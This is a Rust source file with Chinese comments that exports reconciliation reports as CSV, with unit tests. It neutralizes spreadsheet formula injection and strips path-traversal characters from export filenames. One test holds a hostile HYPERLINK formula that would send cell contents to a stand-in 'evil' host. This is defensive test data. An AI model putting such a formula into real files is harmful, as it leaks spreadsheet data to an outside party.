//! 对账报表 CSV 导出
//!
//! CLI 和 HTTP 导出共用。输出内容不含生成时间，同一批订单两次导出逐字节一致；
//! 时间戳只出现在文件名里。

use chrono::Utc;
use csv::WriterBuilder;
use serde::Serialize;
use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::Path;

use crate::errors::{FundlinkerError, Result};
use crate::services::ReportRow;
use crate::utils::money::format_amount;

/// 表格软件会把这些字符开头的单元格当作公式
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// 用户填写的文本加 `'` 前缀，防止在表格软件中被当作公式执行
pub fn neutralize_formula(value: &str) -> String {
    if value.starts_with(&FORMULA_TRIGGERS[..]) {
        format!("'{}", value)
    } else {
        value.to_string()
    }
}

/// CSV 行（仅用于序列化）
#[derive(Debug, Clone, Serialize)]
pub struct CsvReportRow {
    pub order_number: String,
    pub customer_name: String,
    pub recipient: String,
    pub seller: String,
    pub total: String,
    pub payment_status: String,
    pub entry_method: String,
    pub date: String,
}

impl From<&ReportRow> for CsvReportRow {
    fn from(row: &ReportRow) -> Self {
        Self {
            order_number: row.order_number.clone(),
            customer_name: neutralize_formula(&row.customer_name),
            recipient: neutralize_formula(row.recipient.as_deref().unwrap_or_default()),
            seller: neutralize_formula(row.seller.as_deref().unwrap_or_default()),
            total: format_amount(row.total),
            payment_status: row.payment_status.to_string(),
            entry_method: row.entry_method.to_string(),
            date: row.date.format("%Y-%m-%d").to_string(),
        }
    }
}

/// 写入任意 writer，空报表也输出表头
pub fn write_report<W: Write>(rows: &[ReportRow], writer: W) -> Result<()> {
    let mut csv_writer = WriterBuilder::new().has_headers(false).from_writer(writer);

    csv_writer.write_record([
        "order_number",
        "customer_name",
        "recipient",
        "seller",
        "total",
        "payment_status",
        "entry_method",
        "date",
    ])?;

    for row in rows {
        csv_writer.serialize(CsvReportRow::from(row)).map_err(|e| {
            FundlinkerError::serialization(format!("Failed to write CSV row: {}", e))
        })?;
    }

    csv_writer
        .flush()
        .map_err(|e| FundlinkerError::file_operation(format!("Failed to flush CSV: {}", e)))?;
    Ok(())
}

pub fn render_csv(rows: &[ReportRow]) -> Result<String> {
    let mut buf = Vec::new();
    write_report(rows, &mut buf)?;
    String::from_utf8(buf)
        .map_err(|e| FundlinkerError::serialization(format!("CSV is not valid UTF-8: {}", e)))
}

pub fn export_to_csv<P: AsRef<Path>>(rows: &[ReportRow], path: P) -> Result<()> {
    let file = File::create(path.as_ref())
        .map_err(|e| FundlinkerError::file_operation(format!("Failed to create file: {}", e)))?;
    write_report(rows, BufWriter::new(file))
}

/// 生成默认导出文件名（带时间戳）
pub fn generate_export_filename(campaign_id: &str) -> String {
    let safe: String = campaign_id
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == '_')
        .collect();
    format!(
        "reconciliation_{}_{}.csv",
        safe,
        Utc::now().format("%Y%m%d_%H%M%S")
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::storage::models::{EntryMethod, PaymentStatus};
    use chrono::TimeZone;
    use rust_decimal::Decimal;
    use tempfile::NamedTempFile;

    fn row(number: &str, recipient: Option<&str>) -> ReportRow {
        ReportRow {
            order_number: number.to_string(),
            customer_name: "Pat, Smith".to_string(),
            recipient: recipient.map(str::to_string),
            seller: Some("Jane Doe".to_string()),
            total: Decimal::new(3000, 2),
            payment_status: PaymentStatus::Pending,
            entry_method: EntryMethod::Manual,
            date: Utc.with_ymd_and_hms(2026, 3, 14, 9, 30, 0).unwrap(),
        }
    }

    #[test]
    fn test_render_quotes_and_formats() {
        let csv = render_csv(&[row("FR-000001", Some("Grandma"))]).unwrap();
        let mut lines = csv.lines();
        assert_eq!(
            lines.next().unwrap(),
            "order_number,customer_name,recipient,seller,total,payment_status,entry_method,date"
        );
        assert_eq!(
            lines.next().unwrap(),
            "FR-000001,\"Pat, Smith\",Grandma,Jane Doe,30.00,pending,manual,2026-03-14"
        );
        assert!(lines.next().is_none());
    }

    #[test]
    fn test_render_is_stable() {
        let rows = vec![row("FR-000001", None), row("FR-000002", Some("Aunt May"))];
        assert_eq!(render_csv(&rows).unwrap(), render_csv(&rows).unwrap());
    }

    #[test]
    fn test_neutralize_formula() {
        assert_eq!(neutralize_formula("=1+1"), "'=1+1");
        assert_eq!(neutralize_formula("+15551234"), "'+15551234");
        assert_eq!(neutralize_formula("-2"), "'-2");
        assert_eq!(neutralize_formula("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(neutralize_formula("\tx"), "'\tx");
        assert_eq!(neutralize_formula("\rx"), "'\rx");
        assert_eq!(neutralize_formula("Mary-Jane O'Neil"), "Mary-Jane O'Neil");
        assert_eq!(neutralize_formula(""), "");
    }

    #[test]
    fn test_user_text_cannot_become_formula() {
        let mut hostile = row("FR-000009", Some("@cmd"));
        hostile.customer_name = r#"=HYPERLINK("http://evil/?"&A1,"x")"#.to_string();
        hostile.seller = Some("+Jane".to_string());

        let csv = render_csv(&[hostile.clone()]).unwrap();
        let line = csv.lines().nth(1).unwrap();
        assert_eq!(
            line,
            r#"FR-000009,"'=HYPERLINK(""http://evil/?""&A1,""x"")",'@cmd,'+Jane,30.00,pending,manual,2026-03-14"#
        );
        assert_eq!(csv, render_csv(&[hostile]).unwrap());
    }

    #[test]
    fn test_empty_report_has_header() {
        let csv = render_csv(&[]).unwrap();
        assert_eq!(csv.lines().count(), 1);
    }

    #[test]
    fn test_export_to_file_matches_render() {
        let rows = vec![row("FR-000003", None)];
        let temp_file = NamedTempFile::new().unwrap();
        export_to_csv(&rows, temp_file.path()).unwrap();
        let on_disk = std::fs::read_to_string(temp_file.path()).unwrap();
        assert_eq!(on_disk, render_csv(&rows).unwrap());
    }

    #[test]
    fn test_generate_export_filename() {
        let filename = generate_export_filename("c1/../x");
        assert!(filename.starts_with("reconciliation_c1x_"));
        assert!(filename.ends_with(".csv"));
    }
}
